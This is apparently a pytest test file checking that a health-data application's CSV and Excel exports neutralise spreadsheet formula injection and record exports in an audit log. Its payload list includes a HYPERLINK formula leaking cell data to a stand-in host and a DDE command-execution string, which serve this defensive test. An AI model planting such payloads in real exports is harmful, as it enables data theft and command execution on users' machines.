"""§2 Formula injection: one export writer neutralises formula text in every export."""

import io

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import text

from healthmap import audit, exports
from healthmap.cli import main
from healthmap.db import make_engine

PAYLOADS = ['=HYPERLINK("https://evil.example/?leak="&A1,"audit")', "=1+1",
            "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝1+1"]


def _frame():
    return pd.DataFrame({"name": PAYLOADS + ["玉环", "-5"],
                         "n": list(range(-5, len(PAYLOADS) - 3)),
                         "x": [-1.5] * (len(PAYLOADS) + 2)})


def _assert_neutral(values):
    assert len(values) == len(PAYLOADS)
    for v in values:
        assert not str(v).startswith(exports.FORMULA_START), v


def test_csv_neutralises_every_formula_and_keeps_numbers():
    raw = exports.to_csv_bytes(_frame(), exports.Stamp("=evil\nuser", "=x", filters="@y"))
    lines = raw.decode("utf-8-sig").splitlines()
    assert all(line.startswith("#") for line in lines[:4])  # the stamp cannot break out
    back = pd.read_csv(io.BytesIO(raw), comment="#", encoding="utf-8-sig")
    _assert_neutral(back["name"][:len(PAYLOADS)])
    assert back["name"].iloc[0] == "'" + PAYLOADS[0]
    assert back["name"].iloc[-1] == "-5"  # a plain number stays as it is
    assert back["n"].tolist()[0] == -5 and back["x"].iloc[0] == -1.5  # numbers stay numbers


def test_xlsx_cells_are_strings_never_formulas_and_numbers_stay_numbers():
    raw = exports.to_xlsx_bytes(_frame(), exports.Stamp("=u", "=c"))
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value != "-5":  # a plain number
                    assert not cell.value.startswith(exports.FORMULA_START), cell.value
    ws = wb["data"]
    assert ws["B2"].value == -5 and ws["B2"].data_type == "n"
    assert ws["C2"].value == -1.5


def test_multi_sheet_workbook():
    raw = exports.to_xlsx_book({"名单": _frame(), "汇总": pd.DataFrame({"k": ["=1"], "v": [2]})},
                               exports.Stamp("u", "c", personal=True))
    book = pd.read_excel(io.BytesIO(raw), sheet_name=None)
    assert list(book) == ["名单", "汇总", exports.STAMP_SHEET]
    assert book["汇总"]["k"].tolist() == ["'=1"] and book["汇总"]["v"].tolist() == [2]
    with pytest.raises(ValueError):
        exports.to_xlsx_book({})


@pytest.fixture()
def poisoned_demo(demo_copy):
    e = make_engine(demo_copy)
    with e.begin() as c:
        code = c.execute(text("SELECT code FROM areas WHERE level='township' "
                              "ORDER BY code LIMIT 1")).scalar()
        c.execute(text("UPDATE areas SET name=:n WHERE code=:c"), {"n": PAYLOADS[0], "c": code})
    e.dispose()
    return demo_copy


@pytest.mark.parametrize("public", [False, True])
def test_cli_report_csv_and_xlsx_are_neutralised_and_audited(poisoned_demo, tmp_path, capsys,
                                                               public):
    extra = ["--public", "--group", "C_LUNG"] if public else []  # a published table
    assert main(["--db", poisoned_demo, "report", "incidence", *extra]) == 0
    out = capsys.readouterr().out
    assert "'" + PAYLOADS[0].replace('"', '""') in out
    assert "\n=HYPERLINK" not in out and ',=HYPERLINK' not in out
    xlsx = tmp_path / "r.xlsx"
    assert main(["--db", poisoned_demo, "report", "incidence", "--format", "xlsx",
                 "--output", str(xlsx), *extra]) == 0
    ws = openpyxl.load_workbook(xlsx).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert "'" + PAYLOADS[0] in [c.value for c in cells]
    log = audit.search_audit(make_engine(poisoned_demo), action="export")
    assert (log["target"] == "report:incidence").sum() == 2


def test_audit_csv_neutralises_a_planted_user_name(engine):
    audit.record(engine, "=1+1", "login_failed", detail="invalid")
    rows = audit.search_audit(engine)
    raw = exports.to_csv_bytes(rows, exports.Stamp("admin", "audit", personal=True))
    back = pd.read_csv(io.BytesIO(raw), comment="#", encoding="utf-8-sig")
    assert back["actor"].tolist() == ["'=1+1"]



def test_anonymous_export_is_audited(engine, monkeypatch):
    """The public's map download goes through ui.record_export, which records it too."""
    from pathlib import Path

    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("HEALTHMAP_DATABASE_URL", str(engine.url))
    root = str(Path(__file__).resolve().parents[2])
    at = AppTest.from_string(f"import sys\nsys.path.insert(0, {root!r})\nimport ui\n"
                             "ui.record_export('map:incidence', 'years=2024')\n",
                             default_timeout=60)
    at.run()
    assert not at.exception, at.exception
    log = audit.search_audit(engine, action="export")
    assert log[["actor", "target"]].values.tolist() == [["anonymous", "map:incidence"]]
    assert audit.verify(engine).ok
